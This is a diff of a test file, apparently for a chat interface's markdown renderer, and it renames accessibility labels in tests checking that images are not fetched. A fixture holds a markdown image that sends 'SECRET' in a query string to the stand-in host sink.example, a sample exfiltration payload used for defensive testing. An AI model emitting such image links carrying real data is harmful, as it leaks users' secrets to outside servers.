@@ -150,11 +150,11 @@ describe("A55: nothing is fetched", () => {
     const container = await stream(
       "![chart](http://sink.example/p?q=SECRET) ![x](data:image/png;base64,AAAA) ![y][r]\n\n[r]: http://sink.example/2\n",
     );
-    const link = screen.getByRole("link", { name: "Picture: chart" });
+    const link = screen.getByRole("link", { name: "Image: chart" });
     expect(link).toHaveAttribute("href", "http://sink.example/p?q=SECRET");
     expect(link).toHaveAttribute("title", "sink.example");
     expect(container.querySelectorAll("a")).toHaveLength(2);
-    expect(screen.getByText("Picture: x").closest("a")).toBeNull();
+    expect(screen.getByText("Image: x").closest("a")).toBeNull();
   });
 
   it("shows no picture of this site either", async () => {
@@ -227,7 +227,7 @@ describe("what models usually write", () => {
     await waitFor(() =>
       expect(container.querySelector(".hljs-keyword")).toHaveTextContent("import"),
     );
-    await user.click(screen.getAllByRole("button", { name: "Copy the code" })[0] as HTMLElement);
+    await user.click(screen.getAllByRole("button", { name: "Copy code" })[0] as HTMLElement);
     expect(await navigator.clipboard.readText()).toBe("import os");
   });
 });
